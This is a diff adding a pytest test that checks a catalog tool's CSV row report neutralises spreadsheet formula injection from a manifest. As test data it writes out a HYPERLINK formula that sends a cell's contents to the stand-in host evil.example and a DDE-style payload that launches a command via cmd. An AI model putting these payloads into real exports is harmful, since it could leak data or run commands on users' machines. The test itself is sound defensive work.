@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 
 import pytest
@@ -10,6 +11,7 @@ from sqlalchemy import func, select, update
 from catalog.db import session_factory
 from catalog.models import LedgerRow, Person
 from catalog.schema import migrate
+from cli.main import main
 from core.errors import InvalidInput
 from core.settings import Settings
 from tests.factories.tiny import MANIFEST, PEOPLE, make_tiny_archive
@@ -113,3 +115,30 @@ def test_a_nul_in_people_csv_is_a_bad_person_row_naming_its_line(
     assert people_summary["bad_rows"] == [
         "line 3: person_id holds control character U+0000 at character 5"
     ]
+
+
+def test_the_row_report_never_writes_a_formula_from_the_manifest(
+    settings: Settings, tmp_path: Path
+) -> None:
+    make_tiny_archive(tmp_path)
+    formulas = {
+        "D4": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "D5": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "D6": "+1+1",
+        "D7": "-2+3",
+    }
+    rows = "".join(
+        f'"{value.replace(chr(34), chr(34) * 2)}",{key},100,files/visit.txt,t,,,\n'
+        for key, value in formulas.items()
+    )
+    (tmp_path / "manifest.csv").write_text(MANIFEST + rows, encoding="utf-8")
+    batch = str(_load(settings, tmp_path)["batch"])
+    report = tmp_path / "rows.csv"
+    assert main(["reconcile", batch, "--rows", str(report)]) == 0
+    with report.open(encoding="utf-8", newline="") as handle:
+        systems = {
+            row["source_document_id"]: row["source_system"] for row in csv.DictReader(handle)
+        }
+    for key, value in formulas.items():
+        assert systems[key] == "'" + value  # shown as the text it is, never run
+    assert systems["D1"] == "PARIS"
